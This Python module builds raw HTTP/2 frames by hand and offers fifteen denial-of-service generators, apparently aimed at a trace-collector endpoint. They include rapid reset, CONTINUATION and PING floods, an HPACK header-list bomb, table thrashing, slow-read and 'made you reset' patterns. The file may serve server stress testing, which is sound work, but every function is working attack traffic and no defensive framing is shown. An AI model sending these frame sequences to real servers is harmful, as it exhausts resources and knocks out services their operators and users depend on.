"""Fifteen ways to make a server work over HTTP/2 without asking for anything useful.

Each is a function of the round that yields the bytes to send next, after the preface and the
settings; the round counts up from 0. Field blocks are written by hand: the static table and
literals, nothing that needs a library.
"""

import struct

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, _, PING, _, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS = 1, 4
CANCEL = struct.pack(">I", 8)
# Frames that one round sends.
BATCH = 100


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(index, value, first=0x00, bits=4):
    """A field with a name of the static table."""
    most = (1 << bits) - 1
    name = bytes([first | index]) if index < most else bytes([first | most, index - most])
    return name + bytes([len(value)]) + value


REQUEST = (
    b"\x83\x86" + literal(4, b"/v1/traces") + literal(1, b"x")
    + literal(31, b"application/x-protobuf")
)


def request(stream, flags=END_HEADERS, more=b""):
    return frame(HEADERS, flags, stream, REQUEST + more)


def streams(at):
    """Numbers of the streams of a round."""
    return range(2 * at * BATCH + 1, 2 * (at + 1) * BATCH + 1, 2)


def opened(at):
    return request(1) if at == 0 else b""


def rapid_reset(at):
    return b"".join(request(s) + frame(RESET, 0, s, CANCEL) for s in streams(at))


def settings(at):
    return frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535 + at % 9)) * BATCH


def ping(at):
    return frame(PING, 0, 0, struct.pack(">Q", at)) * BATCH


def priority(at):
    return b"".join(frame(PRIORITY, 0, s, b"\0\0\0\0\x10") for s in streams(at % 1000))


def window_update(at):
    one = struct.pack(">I", 1)
    updates = frame(WINDOW_UPDATE, 0, 0, one) + frame(WINDOW_UPDATE, 0, 1, one)
    return opened(at) + updates * (BATCH // 2)


def unknown(at):
    return frame(0xBE, 0xFF, 0, b"") * BATCH


def continuation(at):
    begin = frame(HEADERS, 0, 1, b"\x83\x86") if at == 0 else b""
    return begin + frame(CONTINUATION, 0, 1, b"") * BATCH


def empty_data(at):
    return opened(at) + frame(DATA, 0, 1, b"") * BATCH


def empty_requests(at):
    return b"".join(request(s, END_HEADERS | END_STREAM) for s in streams(at))


def header_list_bomb(at):
    """A value of 100 bytes put in the table once, and named a thousand times in every request."""
    value = b"\x40\x01a" + bytes([100]) + b"b" * 100
    lists = (request(s, END_HEADERS, value + b"\xbe" * 8_000) for s in streams(at)[:2])
    return b"".join(lists)


def table_thrash(at):
    """Requests that fill the table anew each time."""
    fields = b"".join(
        b"\x40\x04" + b"k%03d" % (k % 1000) + bytes([100]) + b"%050d" % at * 2 for k in range(60)
    )
    return b"".join(request(s, END_HEADERS | END_STREAM, fields) for s in streams(at)[:4])


def slow_read(at):
    """Whole requests whose answers find no window."""
    shut = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)) if at == 0 else b""
    body = b"\x0a\x00"
    return shut + b"".join(request(s) + frame(DATA, END_STREAM, s, body) for s in streams(at)[:10])


def tiny_data(at):
    return opened(at) + frame(DATA, 0, 1, b"\x0a") * BATCH


def open_and_stall(at):
    return b"".join(request(s) for s in streams(at))


def made_you_reset(at):
    """Errors that have the server reset streams which it has begun to serve."""
    beyond = b"\x7f\xff\xff\xff"
    return b"".join(request(s) + frame(WINDOW_UPDATE, 0, s, beyond) for s in streams(at))


ALL = (
    rapid_reset, settings, ping, priority, window_update, unknown, continuation, empty_data,
    empty_requests, header_list_bomb, table_thrash, slow_read, tiny_data, open_and_stall,
    made_you_reset,
)
